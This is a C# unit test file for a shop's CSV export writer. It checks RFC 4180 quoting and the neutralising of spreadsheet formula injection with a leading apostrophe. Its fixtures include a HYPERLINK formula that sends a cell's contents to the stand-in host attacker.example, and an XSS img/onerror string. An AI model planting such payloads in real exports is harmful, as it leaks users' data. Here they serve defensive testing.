using System.Text;
using Shop.Reporting.Reports;

namespace Shop.UnitTests.Reporting;

/// <summary>The export writer alone: RFC 4180 with a BOM, text that a spreadsheet would run as a formula neutralised, numbers left as numbers.</summary>
public sealed class CsvTests
{
    private static string Written(params object?[] row)
    {
        var bytes = Csv.Write(["a"], [row]);
        Assert.Equal(Encoding.UTF8.GetPreamble(), bytes[..3]);
        var lines = Encoding.UTF8.GetString(bytes[3..]).Split("\r\n");
        Assert.Equal("a", lines[0]);
        return string.Join("\r\n", lines[1..^1]);
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://attacker.example/?x=\"&B2,\"open\")", "\"'=HYPERLINK(\"\"http://attacker.example/?x=\"\"&B2,\"\"open\"\")\"")]
    [InlineData("=1+2", "\"'=1+2\"")]
    [InlineData("+1", "\"'+1\"")]
    [InlineData("-2+3", "\"'-2+3\"")]
    [InlineData("-5", "\"'-5\"")]
    [InlineData("@SUM(A1)", "\"'@SUM(A1)\"")]
    [InlineData("\tcmd", "\"'\tcmd\"")]
    [InlineData("\r=1", "\"'\r=1\"")]
    public void Text_that_a_spreadsheet_would_run_gets_a_leading_apostrophe(string text, string expected) =>
        Assert.Equal(expected, Written(text));

    [Theory]
    [InlineData("Noise-cancelling headphones", "Noise-cancelling headphones")]
    [InlineData("a, b", "\"a, b\"")]
    [InlineData("say \"hi\"", "\"say \"\"hi\"\"\"")]
    [InlineData("<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)>")]
    [InlineData("Crème brûlée torch", "Crème brûlée torch")]
    public void Ordinary_text_is_written_as_it_is_quoted_only_where_RFC_4180_needs_it(string text, string expected) =>
        Assert.Equal(expected, Written(text));

    [Fact]
    public void Numbers_and_times_stay_numbers_and_times_even_when_negative()
    {
        Assert.Equal("-5", Written(-5));
        Assert.Equal("-7", Written(-7L));
        Assert.Equal("-12.50", Written(-12.50m));
        Assert.Equal("-2.5", Written(-2.5));
        Assert.Equal("0.1", Written(0.1m));
        Assert.Equal("2026-11-27T09:00Z", Written(DateTimeOffset.Parse("2026-11-27T10:00:00+01:00", System.Globalization.CultureInfo.InvariantCulture)));
        // An empty cell; alone on its row it is quoted, so the row does not read as a blank line.
        Assert.Equal("\"\"", Written([null]));
    }

    [Fact]
    public void The_page_shows_the_same_text_as_the_csv_less_the_escape()
    {
        object?[] row = ["=1+2", -5, 12.5m, DateTimeOffset.Parse("2026-11-27T10:00:00Z", System.Globalization.CultureInfo.InvariantCulture)];
        var bytes = Csv.Write(["a", "b", "c", "d"], [row]);
        var line = Encoding.UTF8.GetString(bytes[3..]).Split("\r\n")[1];
        Assert.Equal("\"'=1+2\",-5,12.5,2026-11-27T10:00Z", line);
        Assert.Equal(["=1+2", "-5", "12.5", "2026-11-27T10:00Z"], row.Select(Csv.Format));
    }
}
